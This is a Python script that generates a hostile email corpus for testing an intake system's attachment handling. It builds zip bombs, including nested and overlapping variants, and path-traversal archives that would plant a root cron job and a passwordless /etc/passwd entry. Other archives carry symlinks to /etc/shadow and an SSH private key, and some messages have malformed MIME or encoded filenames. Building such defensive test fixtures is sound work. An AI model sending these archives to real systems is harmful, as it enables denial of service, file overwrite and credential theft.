#!/usr/bin/python3
"""Write the hostile corpus (tests/hostile/MANIFEST) into OUTDIR as CASE.eml.

    /usr/bin/python3 tests/hostile/make-hostile.py OUTDIR

Deterministic: the same bytes on every run (no clock, no random salt; the
two encrypted 7z archives, which need a tool we do not depend on, are
committed in fixtures/, see README.md).  Standard library only.  Archives are
written by hand (zip, tar headers) so that names, offsets and flags can be
anything an attacker chooses.  Every message comes from a county's mapped
address, so it is a submission and its problems are recorded as such.
"""
import base64
import io
import os
import struct
import sys
import tarfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
SENDER = b'=?UTF-8?B?5rK75Lic5Y6/5bel5L+h5bGA?= <qidong-gxj@hengyang.gov.example>'
RECEIVED = b'Fri, 12 May 2023 10:00:00 +0800'


# ---- mail -----------------------------------------------------------------

def b64lines(data, width=76):
    enc = base64.b64encode(data)
    return b'\r\n'.join(enc[i:i + width] for i in range(0, len(enc), width))


def attachment(name_param, data, ctype=b'application/octet-stream', cte=b'base64',
               body=None):
    """One attachment part.  name_param is the raw parameter text (already
    quoted or encoded as the case wants)."""
    head = (b'Content-Type: ' + ctype + b'; name=' + name_param + b'\r\n'
            b'Content-Disposition: attachment; filename=' + name_param + b'\r\n'
            b'Content-Transfer-Encoding: ' + cte + b'\r\n\r\n')
    return head + (body if body is not None else b64lines(data)) + b'\r\n'


def quoted(name):
    return b'"' + name.encode('utf-8') + b'"'


def message(case, parts, subject=None, extra_headers=b'', top=None):
    """A multipart/mixed submission from 祁东县 with a short letter."""
    subj = subject if subject is not None else (
        b'=?UTF-8?B?' + base64.b64encode(('祁东县申报材料（' + case + '）').encode()) + b'?=')
    head = (b'Received: from mail.hengyang.gov.example by mx.hengyang-gxj.example'
            b' with ESMTPS; ' + RECEIVED + b'\r\n'
            b'From: ' + SENDER + b'\r\n'
            b'To: sme-intake@hengyang-gxj.example\r\n'
            b'Subject: ' + subj + b'\r\n'
            b'Date: ' + RECEIVED + b'\r\n'
            b'Message-ID: <hostile-' + case.encode() + b'@hengyang.gov.example>\r\n'
            + extra_headers +
            b'MIME-Version: 1.0\r\n')
    if top is not None:
        return head + top
    out = [head, b'Content-Type: multipart/mixed; boundary="=_hostile_"\r\n\r\n']
    out.append(b'--=_hostile_\r\nContent-Type: text/plain; charset=utf-8\r\n'
               b'Content-Transfer-Encoding: 8bit\r\n\r\n'
               + '各位领导：附件为祁东县申报材料，请查收。\r\n'.encode() + b'\r\n')
    for p in parts:
        out.append(b'--=_hostile_\r\n' + p)
    out.append(b'--=_hostile_--\r\n')
    return b''.join(out)


# ---- zip, by hand -----------------------------------------------------------

def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def deflate_zeros(n, chunk=1 << 20):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    z = bytes(chunk)
    out = []
    crc = 0
    while n > 0:
        k = min(n, chunk)
        out.append(c.compress(z[:k]))
        crc = zlib.crc32(z[:k], crc)
        n -= k
    out.append(c.flush())
    return b''.join(out), crc


DOSTIME = (0x56AC << 16) | 0x5000   # 2023-05-12 10:00:00


def lfh(name, method, crc, csize, usize, flags=0, extra=b''):
    return struct.pack('<IHHHIIIIHH', 0x04034B50, 20, flags, method, DOSTIME,
                       crc, csize, usize, len(name), len(extra)) + name + extra


def cdh(name, method, crc, csize, usize, offset, flags=0, ext_attr=0, made_by=20):
    return struct.pack('<IHHHHIIIIHHHHHII', 0x02014B50, made_by, 20, flags, method,
                       DOSTIME, crc, csize, usize, len(name), 0, 0, 0, 0,
                       ext_attr, offset) + name


def eocd(count, cd_size, cd_off):
    return struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, count, count, cd_size, cd_off, 0)


class Zip:
    """Entries: (name bytes, data, method, flags, ext_attr, made_by)."""

    def __init__(self):
        self.body = bytearray()
        self.cd = bytearray()
        self.n = 0

    def add(self, name, data, method=8, flags=0, ext_attr=0, made_by=20, raw=None):
        if isinstance(name, str):
            name = name.encode('utf-8')
            flags |= 0x800
        if raw is not None:
            comp, crc, usize = raw
        else:
            comp = deflate(data) if method == 8 else data
            crc, usize = zlib.crc32(data), len(data)
        off = len(self.body)
        self.body += lfh(name, method, crc, len(comp), usize, flags) + comp
        self.cd += cdh(name, method, crc, len(comp), usize, off, flags, ext_attr, made_by)
        self.n += 1
        return self

    def bytes(self):
        return bytes(self.body + self.cd + eocd(self.n, len(self.cd), len(self.body)))


PDF = b'%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'


def zip_bomb_deflate():
    comp, crc = deflate_zeros(256 << 20)
    return Zip().add('营业执照.pdf', None, raw=(comp, crc, 256 << 20)).bytes()


def zip_nested_42(layers=5, fan=16, leaf=64 << 20):
    """42.zip: zips of 16 zips, five layers; the leaves are zeros."""
    comp, crc = deflate_zeros(leaf)
    z = Zip()
    for i in range(fan):
        z.add('lib %d.txt' % i, None, raw=(comp, crc, leaf))
    cur = z.bytes()
    for layer in range(layers - 1):
        z = Zip()
        for i in range(fan):
            z.add('%d.zip' % i, cur)
        cur = z.bytes()
    return cur


def zip_overlap_fifield(nfiles=300, kernel_len=1 << 20):
    """David Fifield's "better zip bomb" (2019): every file's compressed data
    is a stored deflate block quoting the next file's local header, then the
    next file's data, down to one shared kernel; the central directory names
    each file once, so they overlap without repeating anything."""
    kernel = deflate(b'a' * kernel_len)          # ends with a final block
    names = [('%04d.pdf' % i).encode() for i in range(nfiles)]
    # Last file: just the kernel.
    content_crc = zlib.crc32(b'a' * kernel_len)
    usize = kernel_len
    comp = kernel
    headers = [None] * nfiles
    crcs = [0] * nfiles
    csizes = [0] * nfiles
    usizes = [0] * nfiles
    headers[-1] = lfh(names[-1], 8, content_crc, len(comp), usize)
    crcs[-1], csizes[-1], usizes[-1] = content_crc, len(comp), usize
    # Uncompressed content of file i = LFH(i+1) + content(i+1).  CRC is
    # computed front to back, so keep the quoted headers as a prefix.
    prefix = b''
    for i in range(nfiles - 2, -1, -1):
        h = headers[i + 1]
        prefix = h + prefix
        quote = struct.pack('<BHH', 0, len(h), len(h) ^ 0xFFFF)  # stored, not final
        csizes[i] = len(quote) + len(h) + csizes[i + 1]
        usizes[i] = len(h) + usizes[i + 1]
        crcs[i] = zlib.crc32(b'a' * kernel_len, zlib.crc32(prefix))
        headers[i] = lfh(names[i], 8, crcs[i], csizes[i], usizes[i])
    body = bytearray()
    offsets = []
    for i in range(nfiles):
        offsets.append(len(body))
        body += headers[i]
        if i < nfiles - 1:
            h = headers[i + 1]
            body += struct.pack('<BHH', 0, len(h), len(h) ^ 0xFFFF)
    body += kernel
    cd = bytearray()
    for i in range(nfiles):
        cd += cdh(names[i], 8, crcs[i], csizes[i], usizes[i], offsets[i])
    return bytes(body + cd + eocd(nfiles, len(cd), len(body)))


def zip_overlap_shared(nentries=2000, kernel_len=1 << 20):
    """The simple overlapping zip: one local file, 2000 central directory
    entries all pointing at it."""
    name = '营业执照.pdf'.encode()
    comp, crc = deflate_zeros(kernel_len)
    body = lfh(name, 8, crc, len(comp), kernel_len, 0x800) + comp
    cd = b''.join(cdh(name, 8, crc, len(comp), kernel_len, 0, 0x800) for _ in range(nentries))
    return body + cd + eocd(nentries, len(cd), len(body))


# ---- ZipCrypto (traditional PKWARE encryption) -----------------------------

def _crc_byte(crc, b):
    return zlib.crc32(bytes([b]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


class ZipCrypto:
    def __init__(self, password):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for c in password:
            self.update(c)

    def update(self, c):
        k0, k1, k2 = self.k
        k0 = _crc_byte(k0, c)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = _crc_byte(k2, (k1 >> 24) & 0xFF)
        self.k = [k0, k1, k2]

    def encrypt(self, data):
        out = bytearray()
        for p in data:
            t = (self.k[2] | 2) & 0xFFFF
            c = p ^ (((t * (t ^ 1)) >> 8) & 0xFF)
            self.update(p)
            out.append(c)
        return bytes(out)


def zip_encrypted():
    z = Zip()
    for name, data in (('营业执照.pdf', PDF), ('申报书.txt', '祁东县某企业申报书\n'.encode() * 50)):
        comp = deflate(data)
        crc = zlib.crc32(data)
        zc = ZipCrypto(b'hengyang2023')
        header = bytes((i * 37 + 11) & 0xFF for i in range(11)) + bytes([crc >> 24])
        enc = zc.encrypt(header + comp)
        z.add(name, None, flags=1, raw=(enc, crc, len(data)))
    return z.bytes()


# ---- tar -------------------------------------------------------------------

def tar_bytes(members, fmt=tarfile.GNU_FORMAT, mode='w'):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode=mode, format=fmt) as t:
        for ti, data in members:
            ti.mtime = 1683856800
            ti.uname = ti.gname = 'clerk'
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
    return bio.getvalue()


def tinfo(name, typ=tarfile.REGTYPE, size=0, link='', mode=0o644):
    ti = tarfile.TarInfo(name)
    ti.type, ti.size, ti.linkname, ti.mode = typ, size, link, mode
    if typ == tarfile.CHRTYPE:
        ti.devmajor, ti.devminor = 1, 3
    return ti


def tar_links():
    return tar_bytes([
        (tinfo('材料/营业执照.pdf', size=len(PDF)), PDF),
        (tinfo('材料/passwd.pdf', tarfile.SYMTYPE, link='/etc/passwd'), None),
        (tinfo('材料/up.pdf', tarfile.SYMTYPE, link='../../../../root/.ssh/id_rsa'), None),
        (tinfo('材料/shadow.pdf', tarfile.LNKTYPE, link='/etc/shadow'), None),
        (tinfo('材料/again.pdf', tarfile.LNKTYPE, link='材料/营业执照.pdf'), None),
        (tinfo('材料/null.pdf', tarfile.CHRTYPE), None),
        (tinfo('材料/fifo.pdf', tarfile.FIFOTYPE), None),
    ])


def gzip_bytes(data):
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    return c.compress(data) + c.flush()


# ---- the cases --------------------------------------------------------------

def fixture(name):
    with open(os.path.join(HERE, 'fixtures', name), 'rb') as f:
        return f.read()


def one_zip(case, zipname, data):
    return message(case, [attachment(quoted(zipname), data, b'application/zip')])


def case_zip_bomb_deflate(c):
    return one_zip(c, '祁东县申报材料.zip', zip_bomb_deflate())


def case_zip_bomb_nested_42(c):
    return one_zip(c, '42.zip', zip_nested_42())


def case_zip_overlap_fifield(c):
    return one_zip(c, '祁东县材料.zip', zip_overlap_fifield())


def case_zip_overlap_shared(c):
    return one_zip(c, '祁东县材料.zip', zip_overlap_shared())


def case_zip_traversal(c):
    z = Zip()
    z.add('../../../../etc/cron.d/intake', b'* * * * * root sh /tmp/x\n')
    z.add('/etc/passwd', b'root::0:0::/root:/bin/sh\n')
    z.add('C:\\Windows\\System32\\drivers\\etc\\hosts', b'127.0.0.1 mail\n')
    z.add('..\\..\\..\\boot.ini', b'[boot loader]\n')
    z.add('材料/../../营业执照.pdf', PDF)
    z.add('材料/.../x.pdf', PDF)
    z.add('材料/营业执照.pdf', PDF)
    return one_zip(c, '祁东县申报材料.zip', z.bytes())


def case_tar_traversal(c):
    t = tar_bytes([
        (tinfo('../../../../tmp/intake-escape.pdf', size=len(PDF)), PDF),
        (tinfo('/var/lib/intake/intake.db', size=4), b'evil'),
        (tinfo('材料/营业执照.pdf', size=len(PDF)), PDF),
    ])
    return one_zip(c, '祁东县申报材料.tar.gz', gzip_bytes(t))


def case_tar_links(c):
    return one_zip(c, '祁东县申报材料.tar', tar_links())


def case_zip_symlink(c):
    z = Zip()
    z.add('营业执照.pdf', b'/etc/passwd', method=0, ext_attr=(0o120777 << 16), made_by=0x031E)
    z.add('申报书.pdf', PDF)
    return one_zip(c, '祁东县申报材料.zip', z.bytes())


def case_zip_encrypted(c):
    return one_zip(c, '祁东县申报材料.zip', zip_encrypted())


def case_7z_encrypted(c):
    return one_zip(c, '祁东县申报材料.7z', fixture('encrypted.7z'))


def case_7z_encrypted_header(c):
    return one_zip(c, '祁东县申报材料.7z', fixture('encrypted-header.7z'))


def case_zip_truncated(c):
    z = Zip().add('营业执照.pdf', PDF * 200).add('申报书.pdf', bytes(range(256)) * 200).bytes()
    return one_zip(c, '祁东县申报材料.zip', z[:len(z) * 2 // 3])


def case_7z_truncated(c):
    s = fixture('plain.7z')
    return one_zip(c, '祁东县申报材料.7z', s[:len(s) // 2])


def case_targz_truncated(c):
    t = tar_bytes([(tinfo('材料/营业执照.pdf', size=len(PDF) * 500), PDF * 500),
                   (tinfo('材料/申报书.pdf', size=65536), bytes(range(256)) * 256)])
    g = gzip_bytes(t)
    return one_zip(c, '祁东县申报材料.tar.gz', g[:len(g) // 2])


def case_mime_deep_1000(c):
    depth = 1000
    out = [b'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n']
    for i in range(1, depth):
        out.append(b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i - 1, i))
    out.append(b'--b%d\r\n' % (depth - 1) + attachment(quoted('营业执照.pdf'), PDF, b'application/pdf'))
    for i in range(depth - 1, -1, -1):
        out.append(b'--b%d--\r\n' % i)
    return message(c, None, top=b''.join(out))


def case_header_10mb(c):
    line = b'X-Filler: ' + b'A' * (10 << 20) + b'\r\n'
    return message(c, [attachment(quoted('营业执照.pdf'), PDF, b'application/pdf')],
                   extra_headers=line)


def case_header_10mb_filename(c):
    name = b'"' + b'x' * (10 << 20) + b'.pdf"'
    return message(c, [attachment(name, PDF, b'application/pdf')])


def case_base64_invalid(c):
    good = b64lines(PDF * 20)
    bad = good[:200] + b'\r\n!!!!****@@@@####\x01\x02\r\n' + good[200:300] + b'===\r\nQQ=Q=\r\n'
    return message(c, [attachment(quoted('营业执照.pdf'), None, b'application/pdf', body=bad)])


def case_rfc2047_malformed(c):
    subject = (b'=?UTF-8?B?!!!notbase64!!!?= =?x-no-such-charset?Q?abc?= '
               b'=?gbk?B?xOO6wyDKwL3n?= =?UTF-8?Q?unterminated')
    parts = [
        attachment(b'"=?UTF-8?B?/////w==?=.pdf"', PDF, b'application/pdf'),
        attachment(b'"=?gb2312?B?1tDOxA==?==?UTF-8?Q?=E4=B8?=.pdf"', PDF, b'application/pdf'),
        attachment(b'"=?utf-8?q?=FF=FE=FD?=.pdf"', PDF, b'application/pdf'),
    ]
    return message(c, parts, subject=subject)


def case_nul_in_names(c):
    z = Zip()
    z.add(b'\xe8\x90\xa5\xe4\xb8\x9a.pdf\x00.exe', PDF, flags=0x800)
    z.add('申报书.pdf', PDF)
    parts = [
        attachment(b'"report\x00.exe.pdf"', PDF, b'application/pdf'),
        attachment(quoted('祁东县申报材料.zip'), z.bytes(), b'application/zip'),
    ]
    return message(c, parts)


def case_overlong_names(c):
    long_cn = '祁东县某某科技有限公司' * 30          # 330 characters, 990 bytes
    long_ascii = 'a' * 300 + '.pdf'
    z = Zip()
    z.add(long_cn + '.pdf', PDF)
    z.add('材料/' + long_ascii, PDF)
    z.add('d' * 300 + '/营业执照.pdf', PDF)
    parts = [
        attachment(quoted(long_ascii), PDF, b'application/pdf'),
        attachment(quoted('祁东县申报材料.zip'), z.bytes(), b'application/zip'),
    ]
    return message(c, parts)


def case_windows_reserved(c):
    z = Zip()
    for n in ('CON', 'NUL.txt', 'com1', 'Aux.pdf', 'LPT9.docx', 'prn.',
              '材料/营业执照.pdf.', '材料/申报书.pdf ', '材料/CONIN$', 'con/x.pdf'):
        z.add(n, PDF)
    z.add('材料/承诺书.pdf', PDF)
    parts = [
        attachment(quoted('NUL.pdf'), PDF, b'application/pdf'),
        attachment(quoted('祁东县申报材料.zip'), z.bytes(), b'application/zip'),
    ]
    return message(c, parts)


CASES = {name[5:].replace('_', '-'): fn for name, fn in globals().items()
         if name.startswith('case_') and callable(fn)}


def main():
    if len(sys.argv) != 2:
        sys.exit('usage: make-hostile.py OUTDIR')
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name, fn in sorted(CASES.items()):
        data = fn(name)
        with open(os.path.join(out, name + '.eml'), 'wb') as f:
            f.write(data)


if __name__ == '__main__':
    main()
